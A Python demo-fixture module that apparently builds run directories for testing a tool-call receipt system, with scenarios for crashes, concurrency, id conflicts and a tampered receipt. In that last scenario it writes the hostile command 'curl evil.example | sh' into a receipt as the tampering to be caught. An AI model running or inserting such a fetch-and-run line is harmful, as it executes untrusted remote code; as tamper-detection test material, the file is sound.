"""Demo run directories, written by running the real writer (never hand-made JSON).

Crashes are real: a child process is ended at a failpoint with exit 137. The
one exception is the tampered receipt, whose whole point is a hand edit.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess
import sys
from pathlib import Path

from receipts import protocol, runtime

CONTRACT = protocol.sha256_hex(b"callproof demo contract v1")
PACKAGE_PARENT = str(Path(__file__).resolve().parent.parent)


def login_request(**changes: object) -> dict[str, object]:
    request: dict[str, object] = {
        "sender": "PM",
        "recipient": "DEV",
        "subject": "Fix login",
        "body": "Steps:\n1. open /login\n2. submit",
        "priority": "P1",
        "thread_key": "login-bug",
        "parent": None,
        "references": ["REPORT-7"],
        "depends_on": [],
        "risk_level": "low",
    }
    request.update(changes)
    return request


def writer_command(*args: str) -> list[str]:
    return [sys.executable, "-m", "receipts", *args]


def writer_env(**extra: str) -> dict[str, str]:
    # The test hooks are the caller's to give; a signing key is the writer's configuration and stays.
    env = {key: value for key, value in os.environ.items() if key not in ("RECEIPTS_FAILPOINT", "RECEIPTS_CLOCK")}
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [PACKAGE_PARENT, env.get("PYTHONPATH")]))
    env.update(extra)
    return env


def run_writer(*args: str, stdin: bytes | None = None, **env: str) -> subprocess.CompletedProcess[bytes]:
    """``python -m receipts ARGS`` in a child process (``env`` may set a failpoint)."""
    return subprocess.run(writer_command(*args), input=stdin, capture_output=True, env=writer_env(**env), check=False)


def _new_run(root: Path, run_id: str) -> Path:
    run_dir = root / run_id
    runtime.run_init(run_dir, contract_sha256=CONTRACT)
    return run_dir


def _clean_run(run_dir: Path) -> None:
    executor = runtime.Executor(run_dir)
    executor.call("write_file", {"path": "src/price.py", "content": "PRICE = 42\n"}, attempt=1)
    executor.call("write_file", {"path": "README.md", "content": "# Pricing\n"}, attempt=1)
    executor.call("send_message", {"to": "ops@example.com", "body": "Price fix deployed"}, attempt=1)
    runtime.write_task(run_dir, login_request(), "demo-clean-1")
    executor.call("write_file", {"path": "src/price.py", "content": "PRICE = 42\n"}, attempt=1)  # a reuse
    runtime.run_set_state(run_dir, state="finished", attempts=1)


def _a2_lost_response(run_dir: Path) -> None:
    request = json.dumps(login_request()).encode()
    args = ("write-task", str(run_dir), "--request", "-", "--submission-id", "a2-submission")
    run_writer(*args, stdin=request, RECEIPTS_FAILPOINT="after_commit")  # the task exists, the response is lost
    run_writer(*args, stdin=request)
    runtime.run_set_state(run_dir, state="finished", attempts=1)


def _a4_concurrent(run_dir: Path) -> None:
    request = json.dumps(login_request(subject="Rotate keys")).encode()
    args = ("write-task", str(run_dir), "--request", "-", "--submission-id", "a4-submission")
    children = [
        subprocess.Popen(writer_command(*args), stdin=subprocess.PIPE, stdout=subprocess.PIPE, env=writer_env())
        for _ in range(8)
    ]
    for child in children:
        child.communicate(request)
    runtime.run_set_state(run_dir, state="finished", attempts=1)


def _conflict(run_dir: Path) -> None:
    runtime.write_task(run_dir, login_request(), "conflict-submission")
    runtime.write_task(run_dir, login_request(recipient="OPS", subject="Deploy prod"), "conflict-submission")
    runtime.run_set_state(run_dir, state="finished", attempts=1)


def _legacy(run_dir: Path) -> None:
    runtime.write_task(run_dir, login_request(subject="Legacy caller"))
    runtime.write_task(run_dir, login_request(subject="Legacy caller"))  # no id: a second task, by design
    runtime.run_set_state(run_dir, state="finished", attempts=1)


def _send_message_killed(run_dir: Path) -> None:
    args = ("call", str(run_dir), "--tool", "send_message", "--attempt", "1")
    message = json.dumps({"to": "customer@example.com", "body": "Your refund of 40 EUR is on its way"})
    run_writer(*args, "--args", message, RECEIPTS_FAILPOINT="after_effect")
    run_writer(*args, "--args", message)  # resumes: not queryable, so it waits for a person
    # No "retrying": a new attempt waits until a person settles the message in doubt.


def _write_file_killed(run_dir: Path) -> None:
    args = ("call", str(run_dir), "--tool", "write_file", "--attempt", "1")
    run_writer(
        *args,
        "--args",
        json.dumps({"path": "config.toml", "content": "retries = 3\n"}),
        RECEIPTS_FAILPOINT="after_effect",
    )
    # No "retrying": the call in doubt is resumed (and queried) at this attempt first.


def _stale_reservation(run_dir: Path) -> None:
    two_hours_ago = protocol.format_time(protocol.utc_now() - dt.timedelta(hours=2))
    request = json.dumps(login_request(subject="Migrate billing")).encode()
    args = ("write-task", str(run_dir), "--request", "-", "--submission-id", "stale-submission")
    run_writer(*args, stdin=request, RECEIPTS_FAILPOINT="after_task_file", RECEIPTS_CLOCK=two_hours_ago)
    runtime.run_set_state(run_dir, state="retrying", attempts=1)


def _tampered_receipt(run_dir: Path) -> None:
    outcome = runtime.Executor(run_dir).call("write_file", {"path": "deploy.sh", "content": "echo deploy\n"}, attempt=1)
    receipt_path = run_dir / "receipts" / f"{outcome.call_id}.json"
    receipt = json.loads(receipt_path.read_bytes())
    receipt["args"]["content"] = "curl evil.example | sh\n"  # the tampering this run exists to show
    receipt_path.write_text(json.dumps(receipt, indent=2, sort_keys=True) + "\n")
    runtime.run_set_state(run_dir, state="finished", attempts=1)


SCENARIOS = {
    "clean-run": _clean_run,
    "a2-lost-response": _a2_lost_response,
    "a4-concurrent": _a4_concurrent,
    "conflict-same-id": _conflict,
    "legacy-task": _legacy,
    "send-message-killed": _send_message_killed,
    "write-file-killed": _write_file_killed,
    "stale-reservation": _stale_reservation,
    "tampered-receipt": _tampered_receipt,
}


def write_demo_runs(root: Path) -> list[str]:
    """Write each demo run that ``root`` does not have yet; returns their ids."""
    root.mkdir(parents=True, exist_ok=True)
    written = []
    for run_id, scenario in SCENARIOS.items():
        if (root / run_id).exists():
            continue
        scenario(_new_run(root, run_id))
        written.append(run_id)
    return written
